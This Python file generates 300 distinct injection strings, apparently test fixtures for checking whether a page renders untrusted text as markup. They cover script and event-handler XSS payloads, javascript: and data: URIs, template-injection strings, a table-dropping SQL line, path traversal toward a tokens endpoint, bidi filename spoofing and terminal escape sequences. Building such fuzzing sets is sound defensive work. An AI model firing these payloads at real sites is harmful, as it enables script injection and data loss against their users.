"""300 texts that run ran(), create elements, or confuse parsers, if a page treats them as
markup."""
import itertools

TAGS = ("img src=x", "svg", "iframe src=about:blank", "body", "video src=x", "audio src=x", "input autofocus", "details open",
        "object data=x", "embed src=x", "link rel=stylesheet href=x", "style", "marquee", "select autofocus", "textarea autofocus",
        "a href=javascript:ran(0)", "math", "form", "button autofocus", "x tabindex=1")
HANDLERS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationend", "onstart", "onpointerenter", "onwheel")
# The characters by which a text leaves an attribute, a string, a comment, or an element.
PREFIXES = ('', '"', "'", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</span></td></tr></table>",
            "`", "${", "\\\"", "\\u003c/script\\u003e")
MARKUP = (
    "<script>ran({n})</script>", "<script src=data:text/javascript,ran({n})></script>", "<script src=//example.invalid/{n}.js></script>",
    "<svg><script>ran({n})</script></svg>", "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,{n}#x>",
    "<svg><foreignObject><iframe srcdoc='<script>ran({n})</script>'></foreignObject></svg>", "<math><mi//xlink:href='data:x,<script>ran({n})</script>'>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'>", "<iframe src=javascript:parent.ran({n})>", "<object data=javascript:ran({n})>",
    "<base href=//example.invalid/{n}/>", "<meta http-equiv=refresh content='0;url=//example.invalid/{n}'>", "<style>*{{background:url(//example.invalid/{n})}}</style>",
    "<link rel=stylesheet href=//example.invalid/{n}.css>", "<img src=//example.invalid/{n}.png>", "<form action=//example.invalid/{n}><button>Submit</button></form>",
    "<template><script>ran({n})</script></template>", "<noscript><p title='</noscript><img src=x onerror=ran({n})>'>", "<!--><img src=x onerror=ran({n})>-->",
    "<a href='javascript:ran({n})'>Stop</a>", "<a href=java&#9;script:ran({n})>x</a>", "<button popovertarget=x onclick=ran({n})>Submit</button>",
    "<input type=image src=x onerror=ran({n})>", "<table background=javascript:ran({n})>", "<div style='animation:x' onanimationstart=ran({n})>", "<dialog open onclose=ran({n})>",
    "<img src=x:x onerror\n=\nran({n})>", "<img/src=x/onerror=ran({n})>", "<IMG SRC=x ONERROR=ran({n})>", "<img src=x onerror=&#114;an({n})>", "<<script>ran({n})//<</script>",
    "&lt;img src=x onerror=ran({n})&gt;", "&#60;script&#62;ran({n})&#60;/script&#62;", "%3Cscript%3Eran({n})%3C/script%3E", "\\x3cscript\\x3eran({n})\\x3c/script\\x3e",
    "+ADw-script+AD4-ran({n})+ADw-/script+AD4-", "\uff1cscript\uff1eran({n})\uff1c/script\uff1e", "<scr<script>ipt>ran({n})</scr</script>ipt>")
CODE = ("javascript:ran({n})", " \tjavascript:ran({n})", "JaVaScRiPt:ran({n})", "java\nscript:ran({n})", "data:text/html,<script>ran({n})</script>", "vbscript:ran({n})",
        "blob:null/ran({n})", "//example.invalid/{n}", "https://example.invalid/{n}", "#/sign-in?then=javascript:ran({n})", "{{{{ran({n})}}}}", "{{{{constructor.constructor('ran({n})')()}}}}",
        "${{ran({n})}}", "#{{ran({n})}}", "<%= ran({n}) %>", "<% $parameters.x %>{n}", "{{% ran({n}) %}}", "[[ran({n})]]", "');ran({n})//", "\");ran({n})//", "`);ran({n})//", "0,ran({n})",
        "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "null", "undefined", "NaN", "[object Object]", "true", "-1", "1e999", "../../api/v2/tokens", "..%2f..%2fapi",
        "%00", "%E0%A4%A", "?a=1&b=2#c", "'; DROP TABLE jobs; --", "*/ran({n})/*", "\\", "\\n", "\"", "'", "`", "&amp;", "&", "~", " ", "a~b~{n}")
CONFUSING = ("\u202eevil\u202c{n}", "\u2066\u202egpj.exe\u2069{n}", "\u200f\u05d0{n}", "a\u0000b{n}", "\ufeff{n}", "\u200b\u200b{n}", "\u2028ran({n})\u2029", "\ud7ff\ue000\ufffd{n}",
             "e" + "\u0301" * 60 + "{n}", "\U0001f468\u200d\U0001f469\u200d\U0001f467{n}", "W" * 300 + "{n}", "\x1b[31mred{n}\x1b[0m", "\x1b]8;;javascript:ran({n})\x07link\x1b]8;;\x07",
             "\x1b]8;;https://example.invalid/{n}\x1b\\link\x1b]8;;\x1b\\", "\x1b]0;title{n}\x07", "\x1b[2J\x1b[H{n}", "\x1b[38;2;1;2;3;4;5m{n}", "\x1b[999999999C{n}", "\x1b[{n}", "\x9b31m{n}",
             "\x1bP1$r{n}\x1b\\", "\x1b]1337;File=inline=1:PHNjcmlwdD4={n}\x07", "\r\r\r{n}", "a\rb\rc{n}", "\b\b\b{n}", "\x7f{n}", "\x07{n}", "\t\t{n}", "line\n<img src=x onerror=ran({n})>")


def payloads():
    texts = [t.format(n=n) for n, t in enumerate((*MARKUP, *CODE, *CONFUSING))]
    for tag, handler in itertools.product(TAGS, HANDLERS):
        n = len(texts)
        texts.append(f"{PREFIXES[n % len(PREFIXES)]}<{tag} {handler}=ran({n})>")
    return texts[:300]


PAYLOADS = payloads()
assert len(PAYLOADS) == 300 == len(set(PAYLOADS))
